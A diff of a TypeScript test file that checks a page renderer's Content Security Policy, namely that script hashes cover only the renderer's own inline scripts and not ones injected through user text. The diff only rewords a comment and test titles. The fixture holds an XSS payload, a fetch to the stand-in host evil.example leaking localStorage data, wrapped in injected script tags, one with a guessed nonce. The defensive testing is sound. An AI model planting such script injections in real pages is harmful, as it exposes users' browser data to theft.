@@ -17,7 +17,7 @@ afterAll(() => void vi.unstubAllEnvs())
 
 const STOLEN = 'fetch("https://evil.example/?" + localStorage.length)'
 
-/** A builder's description, as if it had ever been rendered as markup. */
+/** A builder's description, as if it had been rendered as markup. */
 function Instrument() {
   const words = `<script>${STOLEN}</script><script nonce="guessed">${STOLEN}</script><script async nonce>${STOLEN}</script>`
   // biome-ignore lint/security/noDangerouslySetInnerHtml: the fault that this test is about
@@ -74,7 +74,7 @@ function inlineScripts(html: string) {
   return [...html.matchAll(/<script(?![^>]*(?:\bsrc=|ld\+json))[^>]*>([\s\S]*?)<\/script>/g)].map(([, script = '']) => script)
 }
 
-test('the policy lists the renderer’s own inline scripts and none that came in with user text', async () => {
+test('the policy lists the renderer’s own inline scripts and none injected through user text', async () => {
   const { html, hashes } = await render()
 
   expect(html).toContain(`<script>${STOLEN}</script>`)
@@ -84,7 +84,7 @@ test('the policy lists the renderer’s own inline scripts and none that came in
   expect(hashes.toSorted()).toEqual([...new Set([preHydrationScript(), ...own].map(hashOf))].toSorted())
 })
 
-test('structured data for search engines needs no entry in the policy, and text in it stays text', async () => {
+test('structured data for search engines needs no policy entry, and its text cannot break out', async () => {
   const { html, hashes } = await render()
 
   const [, data = ''] = /<script type="application\/ld\+json">([\s\S]*?)<\/script>/.exec(html) ?? []
@@ -92,7 +92,7 @@ test('structured data for search engines needs no entry in the policy, and text 
   expect(hashes).not.toContain(hashOf(data))
 })
 
-test('a page renders the same every time, so it can be cached and sent to many people', async () => {
+test('a page renders the same way every time, so it can be cached and shared', async () => {
   const [first, second] = [await render(), await render()]
   expect(first).toEqual(second)
   expect(first.html.replace('nonce="guessed"', '')).not.toContain('nonce="')
